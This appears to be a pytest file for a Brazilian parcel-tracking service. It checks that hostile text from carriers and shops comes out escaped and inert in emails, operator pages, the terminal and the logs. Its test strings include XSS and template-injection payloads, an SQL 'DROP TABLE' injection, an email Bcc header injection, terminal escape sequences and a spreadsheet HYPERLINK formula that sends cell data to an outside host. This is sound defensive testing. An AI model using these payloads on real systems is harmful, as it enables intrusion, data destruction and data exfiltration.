"""Whatever carriers and shops write is shown as the text that it is: in mails, on pages, at a terminal, in logs."""

import email
import json
import logging
import re
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import timedelta
from email.message import EmailMessage
from email.policy import default
from itertools import count
from pathlib import Path
from typing import Any

import html5lib
import pytest
from starlette.testclient import TestClient

from rastro.cli import main
from rastro.languages import Language
from rastro.orchestration.acts import PARAMS as FORM
from rastro.orchestration.acts import act_by_hand
from rastro.pages import access
from rastro.pages.app import made
from rastro.pages.routes import May
from rastro.web.tracking_page import Shown
from webserver import serving

pytestmark = pytest.mark.slow

PAGE = "https://rastro.loja.example"
LINK = re.compile(rf"{PAGE}/r/([A-Za-z0-9_-]+)")
MARK = "<script>alert(1)</script>"
STORABLE = "".join(
    (
        f"\"'>{MARK}<img src=x onerror=alert(1)><a href=javascript:alert(1)>--></style></title></textarea></pre>",
        "{{ 1234567*1001 }}{% raw %}${1234567*1001}<%= 1234567*1001 %>%s{0}",
        "'; DROP TABLE rastro.shipment; --\\",
        "\r\nBcc: alguem@fora.example\r\n\r\n",
        "\u202egnp.exe\u2066\u200f\x1b]0;x\x07\x1b[31m\x85\u2028\ue000\ue001",
    )
)
HOSTILE = f" {STORABLE}\0" + "x" * 5000
FORMULA = '=HYPERLINK("https://fora.example/?q="&A1,"clique")'
BENIGN = " sem novidade"
KINDS = ("collected", "undone", "odd_code", "returned")
SHOWN = Shown(
    shop_name="Loja",
    shop_logo="",
    shop_colour="#0b57a4",
    help_url="https://loja.example/ajuda",
    mail_language=Language.PORTUGUESE,
    tracking_link_for=timedelta(days=90),
    tracking_origins=frozenset(),
)
_serials = count(1)


@dataclass(kw_only=True)
class Seen:
    """What was said in one shop's life, by where it was said."""

    html: dict[str, list[str]] = field(default_factory=dict)
    mails: list[EmailMessage] = field(default_factory=list)
    orders: list[dict[str, Any]] = field(default_factory=list)
    terminal: dict[str, str] = field(default_factory=dict)

    def add(self, where: str, text: str) -> None:
        self.html.setdefault(where, []).append(text)


def lived(shop, capsys, tmp_path: Path, words: str, row: Mapping[str, object]) -> Seen:
    """Parcels come, are followed to their end, one act is done by hand, and everything is looked at."""
    shop.configure(tracking_page=PAGE, alert_to="expedicao@loja.example")
    mails_before, parcels_before = len(shop.simulator.mails()), len(shop.simulator.truth())
    shop.simulator.calm()
    shop.simulator.fault("correios", "status", match="srorastro", status=503, words=words, times=0)
    shop.simulator.fault("vtex", "worded", method="GET", words=words, times=0)
    shop.cohort(len(KINDS) * 2, kinds=list(KINDS), share_sql=0.5, variants=["own"])
    truth = shop.simulator.truth()[parcels_before:]
    for one in truth:
        if one["source"] == "sql":
            serial = next(_serials)
            order = f"{serial}{words.strip()[:400]}".replace("\0", "")
            shop.change_row(one["order_id"], **{**row, "order_id": order, "customer_email": one["email"]})
            one["order_id"] = order
    strange = next(_serials)
    number = f"9{words}".replace("\0", "")
    shop.add_row(
        {
            **row,
            "invoiced_at": shop.since,
            "promised_at": shop.since,
            "updated_at": None,
            "order_id": f"X{strange}",
            "invoice_number": f"{strange}",
            "tracking_number": number,
        }
    )
    assert "An error has occurred." in str(shop.hour().failures["track.correios"])
    shop.simulator.calm()
    shop.simulator.fault("correios", "worded", match="srorastro", words=words, times=0)
    shop.simulator.fault("vtex", "worded", method="GET", words=words, times=0)
    assert [hour.failures for hour in shop.to_the_end() if hour.failures] == []
    act(truth[0]["tracking_number"], words)
    shop.hour()
    seen = Seen(orders=truth)
    for mail in shop.simulator.mails()[mails_before:]:
        message = email.message_from_string(mail["raw"], policy=default)
        seen.mails.append(message)
        seen.add("mail", message.get_body(("html",)).get_content())
    look_at_pages(shop, seen, words)
    look_at_tracking_pages(shop, seen)
    look_at_terminal(shop, seen, capsys, tmp_path)
    return seen


def act(number: str, words: str) -> None:
    """A delivery that a person confirms, with such words."""

    class Run:
        triggering_user_name = f"ana{words}"[:200]

    blank = {name: None if name == "status" else "" for name in FORM}
    said = {"action": "add_event", "numbers": number, "status": "in_transit", "description": words, "city": words}
    context: Any = {"params": {**blank, **said, "reason": f"a cliente ligou{words}"}, "dag_run": Run()}
    act_by_hand(f"manual-{next(_serials)}", context)


def look_at_pages(shop, seen: Seen, words: str) -> None:
    """The operators' pages, as an operator and as a viewer, who differ in what they are shown."""
    parcels = [row.shipment_id for row in shop.ask("SELECT shipment_id FROM rastro.shipment ORDER BY 1 DESC LIMIT 9")]
    kinds = [row.problem for row in shop.ask("SELECT DISTINCT problem FROM rastro.v_open_problem")]
    assert len(kinds) >= 3
    app = made()
    for guard in access.GUARDS.values():
        app.dependency_overrides[guard] = lambda: None
    for may in (frozenset(May), frozenset({May.SEE})):
        app.dependency_overrides[access.visitor] = lambda may=may: access.Visitor(name=f"ana{words}", may=may)
        with TestClient(app, headers={"origin": "http://testserver"}) as client:

            def get(where: str, path: str, client: TestClient = client, **query: object) -> None:
                answer = client.get(path, params=query)
                assert answer.status_code == 200, (path, answer.text)
                seen.add(where, answer.text)

            get("overview", "/")
            get("search", "/search", q=f"{seen.orders[0]['tracking_number']}, unknown1, {words}")
            for one in seen.orders:
                get("search", "/search", q=one["order_id"])
            for shipment_id in parcels:
                get("shipment", f"/shipments/{shipment_id}")
            for kind in (*kinds, words):
                get("problems", "/problems", kind=kind)
            get("act", "/act", action="add_event", numbers=words, notice_ids=words)
            get("audit", "/audit")
            for where, path in (("act", "/act"), ("csv", "/csv"), ("backfill", "/backfill"), ("search", "/search")):
                form = dict.fromkeys(("action", "numbers", "reason", "csv", "first", "last", "address"), words)
                answer = client.post(path, data=form)
                assert answer.status_code in {200, 400}, answer.text
                seen.add(where, answer.text)


def look_at_tracking_pages(shop, seen: Seen) -> None:
    tokens = {one for mail in seen.mails for one in LINK.findall(mail.get_body(("plain",)).get_content())}
    assert tokens
    with serving(shop.warehouse, shown=SHOWN) as web:
        for token in tokens:
            answer = web.send(f"/r/{token}", method="GET")
            assert answer.status_code == 200
            seen.add("tracking page", answer.text)
            told = json.loads(web.send(f"/r/{token}.json", method="GET").content)
            assert set(told) == {"number", "shop", "language", "title", "parcels"}
            seen.add("tracking page", "\n".join(texts_in(told)))


def texts_in(value: object) -> Iterator[str]:
    """Every text of JSON; none may stand for anything but what it is called, so it is plain."""
    if isinstance(value, str):
        assert value.isprintable(), value
        assert len(value) < 400
    for one in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from texts_in(one)


def look_at_terminal(shop, seen: Seen, capsys, tmp_path: Path) -> None:
    capsys.readouterr()
    order = next(one for one in seen.orders if one["source"] == "sql")

    def run(*arguments: str) -> str:
        main([*arguments, "--dsn", shop.warehouse])
        told = capsys.readouterr()
        return told.out + told.err

    for one in seen.orders:
        seen.terminal[f"status {one['tracking_number']}"] = run("status", one["tracking_number"])
    seen.terminal["status"] = run("status", order["order_id"])
    seen.terminal["totals"] = run("status")
    seen.terminal["unknown"] = run("status", "nobody knows\x1b[31m\r\nit")
    seen.terminal["quarantine"] = run("quarantine")
    exported = json.loads(run("person", "export", "--order", order["order_id"]))
    assert len(exported["orders"]) == 1
    kept = [zlib.decompress(row.raw).decode() for row in shop.ask("SELECT raw FROM rastro.raw_answer")]
    answer = tmp_path / "answer.json"
    answer.write_text(f'{{"objetos": [{",".join(kept)}]}}')
    assert main(["parse", "correios", str(answer)]) == 0
    lines = capsys.readouterr().out.removesuffix("\n").split("\n")
    assert [set(json.loads(line)) >= {"tracking_number", "events"} for line in lines] == [True] * len(kept)


def marks(html: str) -> set[tuple[str, str]]:
    """Every element with each of its attributes."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    found = set()
    for one in tree.iter():
        if isinstance(one.tag, str):
            found |= {(one.tag, ""), *((one.tag, name) for name in one.attrib)}
            for name in ("href", "src", "action"):
                assert re.match(r"/|\?|https://|$", one.get(name, "")), one.get(name)
        else:
            found.add(("comment", ""))
    return found


def shown(html: str) -> str:
    return "".join(html5lib.parse(html, namespaceHTMLElements=False).itertext())


def test_hostile_words_are_shown_as_they_are_and_do_nothing(shop, capsys, caplog, tmp_path) -> None:
    caplog.set_level(logging.INFO, logger="rastro")
    plain_row = {"courier": "Correios", "city_to": "Vila Serena", "state_to": "SP", "customer_name": "Ana Jasmim"}
    before = lived(shop, capsys, tmp_path, BENIGN, {**plain_row, "tracking_url": "https://correios.example/"})
    hostile_row = {
        "courier": f"Correios {STORABLE}",
        "city_to": STORABLE,
        "state_to": FORMULA,
        "customer_name": STORABLE,
        "tracking_url": f"javascript:alert(1)//{STORABLE}",
        "locale": STORABLE,
        "service": STORABLE,
        "carrier_id": FORMULA,
    }
    after = lived(shop, capsys, tmp_path, HOSTILE, hostile_row)

    assert set(after.html) == set(before.html)
    for where, pages in after.html.items():
        known = set().union(*map(marks, before.html[where]))
        assert set().union(*map(marks, pages)) <= known, where
        if where not in {"overview", "backfill"}:
            assert MARK in "".join(map(shown, pages)), f"nothing hostile came to be shown: {where}"
    assert "1235801567" not in repr(after), "a template in it was filled in"

    assert len(after.mails) == len(before.mails)
    headers = {tuple(mail.keys()) for mail in before.mails}
    for mail in after.mails:
        assert tuple(mail.keys()) in headers
        assert all(str(value).isprintable() for value in mail.values())
        assert not mail.defects
        text = mail.get_body(("plain",)).get_content()
        assert all(line.isprintable() and len(line) < 600 for line in text.replace("\r\n", "\n").split("\n"))
    assert sorted(mail["To"] for mail in after.mails if "cliente.example" in mail["To"])

    for command, told in after.terminal.items():
        assert told.strip(), command
        assert told.replace("\n", "").isprintable(), command
    lines = [one.getMessage() for one in caplog.records if one.name.startswith("rastro")]
    assert any(MARK in line for line in lines)
    assert [line for line in lines if not line.isprintable()] == []
    assert [
        row.trouble for row in shop.ask("SELECT trouble FROM rastro.run_stage") if not row.trouble.isprintable()
    ] == []
